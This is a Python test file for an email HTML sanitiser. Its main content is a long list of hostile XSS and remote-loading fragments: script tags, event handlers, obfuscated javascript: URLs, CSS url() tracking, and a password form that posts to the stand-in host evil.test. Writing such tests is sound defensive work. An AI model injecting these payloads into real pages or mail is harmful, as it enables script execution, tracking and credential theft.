"""Hostile HTML: after cleaning nothing is active and nothing is fetched from afar."""
# ruff: noqa: E501 - mails in tables read better unbroken

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from workstation.system.sanitise import has_blocked_images, sanitise, show_remote_images

FRAGMENTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img src="cid:a" onload="alert(1)">',
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<img src=\"jav\tascript:alert('x');\">",
    '<img src="&#106;&#97;&#118;&#97;script:alert(1)">',
    "<img src=data:text/html,<script>alert(1)</script>>",
    "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
    "<img src=vbscript:msgbox(1)>",
    "<img lowsrc=http://evil.test/a.gif>",
    "<img dynsrc=http://evil.test/a.gif>",
    "<img longdesc=http://evil.test/a.gif>",
    "<img usemap=http://evil.test/#m>",
    "<img src=http://evil.test/track.gif width=1 height=1>",
    "<img src=//evil.test/track.gif>",
    "<img src=\\\\evil.test\\share\\x.png>",
    "<img src=file:///etc/passwd>",
    "<img src=ftp://evil.test/a.gif>",
    '<img srcset="http://evil.test/a.gif 2x">',
    '<img src="cid:a" srcset="http://evil.test/a.gif 2x, http://evil.test/b.gif 3x" sizes=100vw>',
    '<picture><source srcset="http://evil.test/a.webp"><img src="http://evil.test/a.gif"></picture>',
    "<image src=http://evil.test/a.gif>",
    '<input type=image src="http://evil.test/a.gif">',
    "<body background=http://evil.test/a.gif>",
    "<table background=http://evil.test/a.gif><tr><td>x</td></tr></table>",
    "<table><tr><td background='http://evil.test/a.gif'>x</td></tr></table>",
    "<p style='background:url(http://evil.test/a.gif)'>x</p>",
    "<p style='background-image:\nurl( \"http://evil.test/a.gif\" )'>x</p>",
    "<p style='background:\\75rl(http://evil.test/a.gif)'>x</p>",
    "<p style='background:u/**/rl(http://evil.test/a.gif)'>x</p>",
    "<p style='list-style-image:url(http://evil.test/a.gif)'>x</p>",
    "<p style='list-style:url(http://evil.test/a.gif)'>x</p>",
    "<p style='border-image:url(http://evil.test/a.gif)'>x</p>",
    "<p style='content:url(http://evil.test/a.gif)'>x</p>",
    "<p style='cursor:url(http://evil.test/a.cur),auto'>x</p>",
    "<p style='background:image-set(\"http://evil.test/a.gif\" 1x)'>x</p>",
    "<p style='filter:url(http://evil.test/f.svg#x)'>x</p>",
    "<p style='mask:url(http://evil.test/m.svg)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='width:ex/**/pression(alert(1))'>x</p>",
    "<p style='behavior:url(http://evil.test/x.htc)'>x</p>",
    "<p style='-moz-binding:url(http://evil.test/x.xml#y)'>x</p>",
    "<p style='color:red;@import \"http://evil.test/a.css\"'>x</p>",
    "<p style='font-family:x;src:url(http://evil.test/f.woff)'>x</p>",
    "<p style=\"color:red;background:url('java\nscript:alert(1)')\">x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x</p>",
    "<style>body{background:url(http://evil.test/a.gif)}</style>",
    "<style>@import url(http://evil.test/a.css);</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<style>*{color:red}</style><p>x</p>",
    "<link rel=stylesheet href=http://evil.test/a.css>",
    "<link rel=dns-prefetch href=//evil.test>",
    "<link rel=preload as=image href=http://evil.test/a.gif>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<meta http-equiv='Set-Cookie' content='a=b'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)",
    "<base href=http://evil.test/><a href=/x>x</a>",
    "<iframe src=http://evil.test/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=http://evil.test/></frameset>",
    "<object data=http://evil.test/x.swf></object>",
    "<object classid=clsid:x codebase=http://evil.test/x.cab></object>",
    "<embed src=http://evil.test/x.swf>",
    "<applet code=x.class codebase=http://evil.test/></applet>",
    "<video poster=http://evil.test/a.gif src=http://evil.test/a.mp4 autoplay></video>",
    "<audio src=http://evil.test/a.mp3 autoplay></audio>",
    "<video><source src=http://evil.test/a.mp4 onerror=alert(1)></video>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><image xlink:href=http://evil.test/a.gif /></svg>",
    "<svg><use href=http://evil.test/x.svg#a /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><img src=http://evil.test/a.gif></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=javascript:alert(1)>x</math>",
    "<form action=http://evil.test/><input name=password><button>Login</button></form>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select onchange=alert(1)><option>x</select>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='  javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java\x00script:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=blob:http://evil.test/x>x</a>",
    "<a href=http://evil.test/ ping=http://evil.test/ping>x</a>",
    "<a href=http://evil.test/ target=_blank onclick=alert(1)>x</a>",
    "<a href=http://evil.test/ style='position:fixed;top:0'>x</a>",
    "<area href=javascript:alert(1) shape=default>",
    "<p onmouseover=alert(1)>x</p>",
    "<p ONCLICK = alert(1)>x</p>",
    "<p x:onclick=alert(1) data-blocked-src=http://evil.test/a.gif>x</p>",
    "<img data-blocked-src=javascript:alert(1)>",
    "<p title='<img src=http://evil.test/a.gif onerror=alert(1)>'>x</p>",
    "<img alt='\"><script>alert(1)</script>' src=http://evil.test/a.gif>",
    "<img alt=' src=\"cid:x\" ' src=http://evil.test/a.gif>",
    "<img title=' src=\"http://evil.test/b.gif\" ' src=cid:a>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml>",
    "<v:imagedata src='http://evil.test/a.gif' />",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><img src=http://evil.test/a.gif></xmp>",
    "<portal src=http://evil.test/></portal>",
    "<font face=\"a\" style=\"font-family:'x';color:rgb(1,2,3)\" onfocusin=alert(1)>x</font>",
    "<div id=x class=y tabindex=1 contenteditable onblur=alert(1)>x</div>",
]  # fmt: skip

_LOADING = {
    "src",
    "srcset",
    "background",
    "poster",
    "lowsrc",
    "dynsrc",
    "data",
    "xlink:href",
    "longdesc",
    "cite",
}
_ACTIVE_TAGS = {
    "script", "style", "link", "meta", "base", "iframe", "frame", "frameset", "object", "embed", "applet", "form",
    "input", "button", "textarea", "select", "svg", "math", "video", "audio", "source", "template", "image", "portal",
    "details", "marquee", "isindex", "xml", "xmp", "plaintext",
}  # fmt: skip


class _Inspector(HTMLParser):
    """Collects all that is active or remote in what a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.active: list[str] = []
        self.remote: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _ACTIVE_TAGS or ":" in tag:
            self.active.append(tag)
        for name, value in attrs:
            bare = "".join((value or "").split()).lower()
            if name.startswith("on") or name in (
                "formaction",
                "srcdoc",
                "action",
                "ping",
                "http-equiv",
                "id",
                "class",
            ):
                self.active.append(f"{tag} {name}")
            if name == "href" and not bare.startswith(("http:", "https:", "mailto:", "tel:")):
                self.active.append(f"{tag} {name}={value}")
            if name in _LOADING and not bare.startswith("cid:"):
                self.remote.append(f"{tag} {name}={value}")
            if name == "style" and any(
                word in bare for word in ("url", "expression", "import", "position", "\\", "//")
            ):
                self.active.append(f"{tag} style={value}")
            if name == "data-blocked-src" and not (tag == "img" and bare.startswith(("http:", "https:"))):
                self.active.append(f"{tag} {name}={value}")


def _inspect(cleaned: str) -> _Inspector:
    inspector = _Inspector()
    inspector.feed(cleaned)
    inspector.close()
    return inspector


@pytest.mark.parametrize("fragment", FRAGMENTS)
@pytest.mark.parametrize(
    "frame", ["{}", "<html><body><table><tr><td>{}", "<div><p>before {} after</p></div>"]
)
def test_nothing_active_and_nothing_remote_is_left(fragment: str, frame: str) -> None:
    inspector = _inspect(sanitise(frame.replace("{}", fragment)))
    assert inspector.active == []
    assert inspector.remote == []


def test_the_list_is_long_enough_and_the_inspector_sees() -> None:
    assert len(FRAGMENTS) >= 80
    raw = _inspect("<img src=http://evil.test/a.gif><script></script><p onclick=x><a href=javascript:x>")
    assert raw.remote
    assert len(raw.active) == 3


@given(
    st.lists(
        st.sampled_from([*FRAGMENTS, "<b>", "</b>", "<!--", "-->", '"', "'", ">", "</p>", "<a ", "x"]),
        max_size=6,
    )
)
@settings(max_examples=150, deadline=None)
def test_mixed_fragments_stay_harmless(pieces: list[str]) -> None:
    inspector = _inspect(sanitise("".join(pieces)))
    assert inspector.active == []
    assert inspector.remote == []


def test_cleaning_again_changes_nothing() -> None:
    for fragment in FRAGMENTS:
        once = show_remote_images(sanitise(fragment))
        assert show_remote_images(sanitise(once)) == once


def test_what_people_write_stays() -> None:
    source = (
        '<p style="color: #333; font-family: Arial, sans-serif">Hallo <b>Frau</b>,<br>'
        '<a href="https://shop.test/a?b=1&amp;c=2">Link</a> <a href="mailto:a@b.test">Mail</a> '
        '<a href="tel:+4930123">Anruf</a><img src="cid:logo@x" alt="Logo" width="20"></p>'
        "<ul><li>eins</li></ul><table border=1><tr><td colspan=2>x</td></tr></table><blockquote>q</blockquote>"
    )
    cleaned = sanitise(source)
    for expected in (
        "color: #333", "font-family: Arial, sans-serif", "<b>Frau</b>", 'href="https://shop.test/a?b=1&amp;c=2"',
        'href="mailto:a@b.test"', 'href="tel:+4930123"', 'src="cid:logo@x"', 'alt="Logo"', "<li>eins</li>",
        'colspan="2"', "<blockquote>q</blockquote>",
    ):  # fmt: skip
        assert expected in cleaned, expected


def test_remote_images_wait_for_a_click() -> None:
    cleaned = sanitise('<img src="https://shop.test/a.gif?x=1&amp;y=2" alt="Bild">')
    assert 'data-blocked-src="https://shop.test/a.gif?x=1&amp;y=2"' in cleaned
    assert " src=" not in cleaned
    assert has_blocked_images(cleaned)
    shown = show_remote_images(cleaned)
    assert ' src="https://shop.test/a.gif?x=1&amp;y=2"' in shown
    assert not has_blocked_images(shown)
    assert not has_blocked_images(sanitise("<p>x</p>"))


def test_inline_images_only_of_files_that_are_there() -> None:
    source = '<img src="cid:here@x"><img src="cid:gone@x">'
    assert sanitise(source, {"here@x"}).count("cid:") == 1
    assert sanitise(source).count("cid:") == 2


def test_deep_nesting_and_sheer_size_are_quick() -> None:
    deep = sanitise("<div>" * 100_000 + "innen &lt;b&gt;")
    assert deep.startswith("<pre>")
    assert "innen &lt;b&gt;" in deep
    assert sanitise("<a href='https://x.test/1'>x</a>" * 5_000).count("<a ") == 5_000
    assert len(sanitise("<p>x" * 500_000)) > 100
